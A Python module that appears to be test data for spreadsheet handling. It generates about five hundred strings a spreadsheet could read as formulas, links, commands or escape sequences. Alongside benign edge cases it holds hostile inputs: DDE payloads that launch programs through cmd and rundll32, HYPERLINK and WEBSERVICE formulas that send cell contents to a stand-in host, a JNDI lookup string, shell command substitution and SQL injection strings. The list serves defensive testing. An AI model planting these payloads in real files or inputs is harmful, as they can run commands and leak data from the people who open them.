"""Five hundred texts that a spreadsheet might take for a formula, a link, a command or an escape."""

from __future__ import annotations

from itertools import product

_STARTS = ("=", "+", "-", "@", "\t", "\t=", "'=", "'", " =", "＝", "＋", "－", "＠", "|", "%0A=", ";=", ",=", '"=', "{=", "\u200b=", "\u202e=", "\ufeff=", "\n=", "==", "=-", "-+", "@@", "<", "&", "#")  # fmt: skip
_BODIES = (
    "1+1", "SUM(A1:A9)", "cmd|'/c calc'!A0", 'HYPERLINK("http://example.invalid/?"&A1,"点这里")', 'WEBSERVICE("http://example.invalid/")',
    'DDE("soffice";"a";"b")', 'IMPORTXML(CONCAT("http://example.invalid/",A1),"//a")', "'file:///c:/a.xlsx'#$表.A1", "[外部.xlsx]表!A1", "MSEXCEL|'\\..\\..\\calc.exe'!''", "A1", "1E5", "-2", "rundll32|'URL.dll,OpenURL calc.exe'!A",
)  # fmt: skip
_WHOLE = (
    "http://example.invalid/a?b=c&d", "https://例子.invalid/路径", "mailto:a@example.invalid", "ftp://example.invalid", "file:///etc/passwd", "internal:填报表!A1", "external:c:\\a.xlsx", "\\\\host\\share\\a.xlsx",
    "javascript:alert(1)", "_x000D_", "_x0000_", "_x005F_", "_x005F_x000D_", "_x003D_1+1", "a_x0041_b", "_xFFFF_", "_x000d_", "_X000D_", "_x00G0_", "&lt;f&gt;1&lt;/f&gt;", "<f>1+1</f>", "</t></si><si><t>", "]]>", "<![CDATA[a]]>",
    "<!DOCTYPE a>", "<r>1</r>", "<r><t>7</t></r>", "<r></si><si></r>", "<r>a_x005F_x000D_b</r>", "_x005F_x005F_x0041_", "&amp;", "&#61;1", "{=1+1}", '{"a":1}', "#REF!", "#DIV/0!", "#N/A", "TRUE", "FALSE", "NULL", "1/2", "2025-3-1", "3月1日", "12:30", "1e3", "1E400", "0x1F", "1_000", "1,234", "007", "00.10", ".5", "5.", "+86 574", "-5", "(5)", "5%", "１２．５",
    "#r|145-02", "#c|value", "#hs|1|0|0|0|indicators", "haishu-desk", "_manifest", "%s%n", "${jndi:ldap://example.invalid/a}", "{{7*7}}", "`id`", "$(id)", "; DROP TABLE entries;--", "' OR '1'='1", '"引号"', "'单引号'", "''", "'", '"', "\\", "\\n", "%0d%0a",
    "a\tb", "a\nb", "a\n\nb", "一\u3000二", "不\u00a0断", "e\u0301", "é", "ﬁ", "㎡", "10⁴", "½", "𠮷", "😀👨‍👩‍👧", "\u202eabc\u202c", "a\u200bb", "\ufeffa", "ا ب", "ก็", "Å", "ß", "ı", "长" * 500,
)  # fmt: skip
TEXTS: tuple[str, ...] = tuple(dict.fromkeys((*(start + body for start, body in product(_STARTS, _BODIES)), *_WHOLE)))
